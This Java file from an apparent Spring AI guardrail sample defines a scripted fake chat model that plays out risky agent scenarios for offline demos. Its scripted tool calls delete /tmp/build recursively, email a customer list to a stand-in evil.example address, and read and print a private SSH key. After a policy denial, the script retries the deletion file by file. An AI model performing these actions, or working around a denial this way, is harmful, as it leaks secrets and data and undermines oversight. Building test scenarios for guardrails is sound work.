/*
 * Copyright 2026 the original author or authors.
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

package ai.sondera.sample;

import java.util.ArrayList;
import java.util.List;

import org.springframework.ai.chat.messages.AssistantMessage;
import org.springframework.ai.chat.messages.Message;
import org.springframework.ai.chat.messages.MessageType;
import org.springframework.ai.chat.messages.ToolResponseMessage;
import org.springframework.ai.chat.model.ChatModel;
import org.springframework.ai.chat.model.ChatResponse;
import org.springframework.ai.chat.model.Generation;
import org.springframework.ai.chat.prompt.ChatOptions;
import org.springframework.ai.chat.prompt.Prompt;
import org.springframework.ai.model.tool.ToolCallingChatOptions;
import org.springframework.context.annotation.Profile;
import org.springframework.stereotype.Component;

/**
 * A stand-in for a language model that plays the sample's scenario, so the sample runs
 * offline with no API key. It reacts to what it is sent (the tool results, the denials)
 * the way a model would. Replaced by a real model with the {@code openai} or
 * {@code ollama} profile.
 *
 * @author Sondera
 */
@Component
@Profile("!openai & !ollama")
public class ScriptedAssistantModel implements ChatModel {

	@Override
	public ChatResponse call(Prompt prompt) {
		String request = firstUserText(prompt);
		List<String> results = toolResults(prompt);
		String last = results.isEmpty() ? null : results.get(results.size() - 1);
		AssistantMessage answer;
		if (request.contains("notes")) {
			answer = (last == null) ? call("readFile", "{\"path\": \"notes.txt\"}") : say("Your notes say: " + last);
		}
		else if (request.contains("temp")) {
			if (last == null) {
				answer = call("runCommand", "{\"command\": \"rm -rf /tmp/build\"}");
			}
			else if (last.contains("denied by policy")) {
				answer = call("runCommand", "{\"command\": \"rm /tmp/build/*.tmp\"}");
			}
			else {
				answer = say("Done: I removed the temporary files one by one instead of the whole directory.");
			}
		}
		else if (request.contains("customer list")) {
			answer = (last == null) ? call("sendEmail",
					"{\"to\": \"partner@evil.example\", \"subject\": \"Customers\", \"body\": \"See attached.\"}")
					: say("Sent.");
		}
		else if (request.contains("invoice")) {
			answer = (last == null) ? call("transferMoney", "{\"to\": \"ACME Corp\", \"amount\": 5000.00}")
					: say("Paid invoice 42. " + last);
		}
		else if (request.contains("key")) {
			answer = (last == null) ? call("readFile", "{\"path\": \"/home/me/.ssh/id_rsa\"}")
					: say(last.contains("denied by policy") ? "I can't show you that file: it holds a secret."
							: "Here it is: " + last);
		}
		else {
			answer = say("How can I help?");
		}
		return new ChatResponse(List.of(new Generation(answer)));
	}

	@Override
	public ChatOptions getOptions() {
		return ToolCallingChatOptions.builder().build();
	}

	private static AssistantMessage call(String tool, String arguments) {
		return AssistantMessage.builder()
			.content("")
			.toolCalls(List.of(new AssistantMessage.ToolCall("call-" + System.nanoTime(), "function", tool, arguments)))
			.build();
	}

	private static AssistantMessage say(String text) {
		return AssistantMessage.builder().content(text).build();
	}

	private static String firstUserText(Prompt prompt) {
		for (Message message : prompt.getInstructions()) {
			if (message.getMessageType() == MessageType.USER) {
				return message.getText();
			}
		}
		return "";
	}

	private static List<String> toolResults(Prompt prompt) {
		List<String> results = new ArrayList<>();
		for (Message message : prompt.getInstructions()) {
			if (message instanceof ToolResponseMessage responses) {
				responses.getResponses().forEach((response) -> results.add(response.responseData()));
			}
		}
		return results;
	}

}
